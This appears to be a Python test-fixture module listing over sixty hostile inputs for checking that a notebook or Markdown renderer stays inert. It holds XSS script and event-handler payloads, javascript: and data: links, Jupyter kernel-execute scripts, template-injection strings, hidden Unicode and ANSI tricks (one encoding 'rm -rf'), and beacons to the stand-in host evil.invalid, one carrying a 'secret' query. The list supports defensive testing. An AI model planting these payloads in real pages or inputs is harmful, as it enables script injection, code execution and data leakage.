"""Texts that a model, a tool or a file might send to a notebook to make it do something."""

from __future__ import annotations

EVIL = "http://evil.invalid"
"""A server that must never be asked for anything."""
GOT_IN = "alert('in')"

_SCRIPTS = [
    f"<script>{GOT_IN}</script>",
    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    f"<script type=module>import '{EVIL}/m.js'</script>",
    f"</pre></div></section><script>{GOT_IN}</script>",
    f"--></style></title></textarea></script><script>{GOT_IN}</script>",
    f"<scr<script>ipt>{GOT_IN}</scr</script>ipt>",
    "<script>Jupyter.notebook.kernel.execute('1')</script>",
    "<script>jupyterapp.commands.execute('notebook:run-all-cells')</script>",
    '<script type="application/vnd.jupyter.widget-view+json">{"model_id": "x"}</script>',
    f"]]><script>{GOT_IN}</script><![CDATA[",
]
_HANDLERS = [
    f"<img src=x onerror={GOT_IN}>",
    f'"><img src=x onerror="{GOT_IN}">',
    f"' onmouseover='{GOT_IN}' autofocus onfocus='{GOT_IN}'",
    f"<svg onload={GOT_IN}>",
    f"<svg><script>{GOT_IN}</script></svg>",
    f"<svg><animate onbegin={GOT_IN} attributeName=x dur=1s></svg>",
    f"<svg><foreignObject><body onload={GOT_IN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={GOT_IN}>",
    f"<details open ontoggle={GOT_IN}>",
    f"<video><source onerror={GOT_IN}></video>",
    f"<audio src=x onerror={GOT_IN}>",
    f"<input autofocus onfocus={GOT_IN}>",
    f"<marquee onstart={GOT_IN}>",
    f"<body onload={GOT_IN}>",
    f"<template><img src=x onerror={GOT_IN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={GOT_IN}>'>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart=\"{GOT_IN}\">",
    f"<custom-element oncontentvisibilityautostatechange={GOT_IN} style='content-visibility:auto'>",
]
_LOADS = [
    f"<img src='{EVIL}/pixel.png'>",
    f"<img srcset='{EVIL}/a.png 2x'>",
    f"<picture><source srcset={EVIL}/p.png><img></picture>",
    f"<iframe src='{EVIL}'></iframe>",
    f'<iframe srcdoc="<script>parent.{GOT_IN}</script>"></iframe>',
    f"<object data='{EVIL}/o.swf'></object>",
    f"<embed src='{EVIL}/e.pdf'>",
    f"<link rel=stylesheet href={EVIL}/s.css>",
    f"<link rel=prefetch href={EVIL}/p>",
    f"<style>@import url('{EVIL}/i.css');</style>",
    f"<style>*{{background:url({EVIL}/b.png)}}</style>",
    f"<div style=\"background-image:url('{EVIL}/d.png')\">",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}/'>",
    f"<form action={EVIL}><input type=submit></form>",
    f"<table background={EVIL}/t.png><tr><td>x</table>",
    f"<svg><image href={EVIL}/i.svg /><use href='{EVIL}/u.svg#x'/></svg>",
    f"<video poster={EVIL}/v.png src={EVIL}/v.mp4 autoplay></video>",
    f"<portal src={EVIL}></portal>",
]
_LINKS = [
    f'<a href="javascript:{GOT_IN}" id=x>click</a>',
    f"[click](javascript:{GOT_IN})",
    f"[click](java&#x0A;script:{GOT_IN})",
    f"![pixel]({EVIL}/markdown.png)",
    f"![pixel][r]\n\n[r]: {EVIL}/reference.png",
    f"<{EVIL}/autolink>",
    f"data:text/html,<script>{GOT_IN}</script>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>data</a>",
    f'<iframe src="data:text/html,<script>{GOT_IN}</script>"></iframe>',
]
MATHS = [
    rf"$\href{{javascript:{GOT_IN}}}{{click}}$",
    rf"$$\href{{{EVIL}}}{{click}}$$ and $5 or $6",
    rf"\(\unicode{{x3c}}img src=x onerror={GOT_IN}\unicode{{x3e}}\)",
    rf"\[\require{{html}}\style{{background:url({EVIL}/m.png)}}{{x}}\]",
    r"\begin{equation}\text{<img src=x>}\def\x{\x\x}\x\end{equation}",
]
_NOTEBOOK = [
    '{"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0}}',
    f'{{"application/javascript": "{GOT_IN}", "text/html": "<img src=x onerror={GOT_IN}>"}}',
    f"%%javascript\n{GOT_IN}",
    '{"k": "decide", "id": "0", "granted": true}',
    f"%%html\n<script>{GOT_IN}</script>",
]
_TEMPLATES = [
    "{{7*7}}{% for x in range(3) %}<b>{{x}}</b>{% endfor %}{{ ''.__class__.__mro__ }}",
    "${7*7}#{7*7}<%= 7*7 %>{lab.__init__.__globals__}%(x)s",
    f"<!-- <img src='{EVIL}/comment.png'> --><!--[if IE]><script>{GOT_IN}</script><![endif]-->",
    f"&lt;script&gt;{GOT_IN}&lt;/script&gt; &#60;img src=x onerror={GOT_IN}&#62;",
    f"\\u003cscript\\u003e{GOT_IN}\\u003c/script\\u003e \\x3cimg src=x onerror={GOT_IN}\\x3e",
    f"+ADw-script+AD4-{GOT_IN}+ADw-/script+AD4-",
    f"＜script＞{GOT_IN}＜/script＞",
]
_HIDDEN = [
    f"\x1b[2J\x1b[1;31mred\x1b]8;;{EVIL}\x1b\\link\x1b]8;;\x1b\\\x1b]0;title\x07",
    "safe\u202eexe.txt\u202c \u2066x\u2069",
    "run\u200bner\u200c\u200d\ufeff\u2060\u00ad",
    "ok" + "".join(chr(0xE0000 + ord(c)) for c in "rm -rf") + "\U000e007f",
    "a\rb\x08\x00\x07c\x85\u2028d\u2029e\x7f",
    "x\ud800y",
    "Z\u0335\u0321\u0353" * 40,
]

MARKDOWN = [
    f"[click]( javascript:{GOT_IN} )",
    f"[click](JaVaScRiPt:{GOT_IN})",
    f"[click](<javascript:{GOT_IN}>)",
    f"[click](vbscript:{GOT_IN})",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](//evil.invalid/x) [click](/api/kernels) [click](files/x.html)",
    f"[click][r]\n\n[r]: javascript:{GOT_IN}",
    f'[click]({EVIL} "x" onmouseover="{GOT_IN}")',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoKT4=)",
    f"![x]({EVIL}/p.png?q=secret)![y](//evil.invalid/q.png)",
    f"[![x]({EVIL}/p.png)](javascript:{GOT_IN})",
    f"# <img src=x onerror={GOT_IN}>\n\n| <svg onload={GOT_IN}> |\n|---|\n| ![x]({EVIL}/t.png) |",
    f"```html\n<script>{GOT_IN}</script>\n```",
    f'```"><script>{GOT_IN}</script>\nx\n```',
    f"    <img src=x onerror={GOT_IN}>",
    f"$\\text{{<img src=x onerror={GOT_IN}>}}$ and $$<script>{GOT_IN}</script>$$",
    f"$\\href{{{EVIL}}}{{x}}$ $\\includegraphics{{{EVIL}/i.png}}$ $\\style{{background:url({EVIL})}}{{x}}$",
    f"`<script>{GOT_IN}</script>` **<b onclick={GOT_IN}>x</b>** <!-- {EVIL} --> <?php ?> "
    f"<![CDATA[<svg/onload={GOT_IN}>]]>",
]
"""Markdown that a careless renderer makes something of."""

PAYLOADS = [*_SCRIPTS, *_HANDLERS, *_LOADS, *_LINKS, *MATHS, *_NOTEBOOK, *_TEMPLATES, *_HIDDEN, *MARKDOWN]
_ORDINARY = (
    "plain words, **bold**, *italic*, `code`, a [link](https://example.org) and $y^2 = x_1^2 = "
    "\\frac{a}{b} \\text{c}$\n\n# One\n\n## Two\n\n### Three\n\n"
    "| a | b |\n|--:|---|\n| 1 | 2 |\n\n```python\ndef f(): return 'x', 1 # why\n```\n\n- one\n\n1. "
    "two\n\n> said\n\n---\n\nline\nline ~~gone~~"
)
"""What an answer is drawn with: no hostile text may make more of it."""
HARMLESS = [_ORDINARY] * len(PAYLOADS)
assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60
